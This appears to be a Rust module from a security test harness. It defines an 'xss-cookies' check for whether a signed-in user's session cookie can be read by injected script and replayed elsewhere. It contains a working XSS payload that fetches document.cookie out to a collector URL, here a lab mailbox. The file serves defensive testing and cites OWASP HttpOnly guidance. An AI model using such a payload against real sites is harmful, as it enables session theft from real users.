//! Script reads cookies.

use std::time::Duration;

use crate::attack::{
    plan::{Attack, Expected, Found, Needs, Tried},
    stage::Stage,
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "xss-cookies",
    title: "Script reads cookies",
    has: "a hole in the shop's page, or in the login's own",
    does: "reads document.cookie and sends it home",
    gains: "the session, to use from anywhere",
    source: "OWASP Session Management Cheat Sheet, HttpOnly; CWE-1004",
    expected: Expected::EVERYWHERE.not_careless_jwt("its client holds no cookie"),
    needs: Needs::Browser,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let (owner, page) = stage.visitor("owner").await?;
    let mailbox = stage.lab.places.mailbox();
    let hole = format!("<script>fetch('{}?x=' + encodeURIComponent(document.cookie))</script>", mailbox.url);
    // The login's own page too, as if it had the hole.
    let own = page.run("document.cookie").await?;
    page.open(&stage.home(&hole)).await?;
    stage.greets(&page, &owner).await?;
    let hits = mailbox.wait(Duration::from_secs(5)).await;
    let taken = hits.first().and_then(|hit| hit.parameter("x")).ok_or("the script sent nothing")?;
    for cookies in [taken.as_str(), own.as_str().unwrap_or_default()] {
        if !cookies.is_empty() && stage.target.account_by_cookies(cookies).await?.as_ref() == Some(&owner.email) {
            return Ok(Found::Worked("the cookie was in document.cookie, and is accepted from elsewhere".to_owned()));
        }
    }
    Ok(Found::Refused(format!(
        "document.cookie was {taken:?} at the shop and {own} at the login, with the owner signed in"
    )))
}
